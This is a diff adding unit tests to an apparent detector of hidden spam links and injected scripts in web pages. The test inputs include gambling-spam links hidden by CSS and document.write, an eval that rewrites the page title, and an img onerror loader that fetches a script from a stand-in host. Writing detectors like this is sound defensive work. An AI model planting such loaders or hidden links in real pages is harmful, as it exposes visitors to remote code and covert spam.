@@ -69,3 +69,31 @@ def test_whose_host() -> None:
 def test_a_page_full_of_hidden_blocks_gives_a_bounded_answer() -> None:
     html = "".join(f'<p style="display:none"><a href="http://h{number}.com">离心泵</a></p>' for number in range(5_000))
     assert len(hidden.read(Page(URL, html)).items) == 60
+
+
+def test_a_lost_picture_replaced_by_another_hosts_is_no_stranger() -> None:
+    picture = "<script>location.hash</script><img src=a.jpg onerror=\"this.src='//img.x1.com/none.png'\">"
+    assert certain(picture) == []
+    loader = "<img src=1 onerror=\"var s=document.createElement('script');s.src='//x1.top/j.js';document.body.appendChild(s)\">"
+    assert certain(loader) == [("网页事件跳转到站外", "//x1.top/j.js")]
+
+
+def test_spots_of_a_map_inherited_colours_and_coded_hosts_are_hidden() -> None:
+    assert certain('<map><area href="http://x1.com" alt="娱乐城" coords="0,0,1,1"></map>') == [("尺寸为零并截断", "http://x1.com")]
+    assert certain('<map><area href="http://x1.com" alt="合作单位" coords="0,0,90,30"></map>') == []
+    coloured = '<body bgcolor="#ffffff"><p style="color:#fff"><a href="http://x1.com" style="color:{}">澳博</a></p></body>'
+    assert certain(coloured.format("inherit")) == [("文字与背景同色", "http://x1.com")]
+    assert certain(coloured.format("#333")) == []
+    assert certain('<a style="display:none" href="http://%781.com/">澳门</a>') == [("display:none 隐藏", "http://%781.com/")]
+
+
+def test_a_script_that_renames_the_page_is_found_unless_it_reports() -> None:
+    assert certain("<script>eval('document.title=\"澳门赌场\"')</script>") == [("脚本把网页标题改成推广内容", "")]
+    assert certain("<script>location.hash;document.title='警方打击澳门赌场招赌'</script>") == []
+
+
+def test_another_name_for_the_document_writes_as_well() -> None:
+    found = hidden.of_script(
+        "var d=document;d.write(\"<div style='position:absolute;left:-9999px'><a href='http://x1.com'>六合彩</a></div>\");"
+    )
+    assert [item.target for item in found.certain] == ["http://x1.com"]
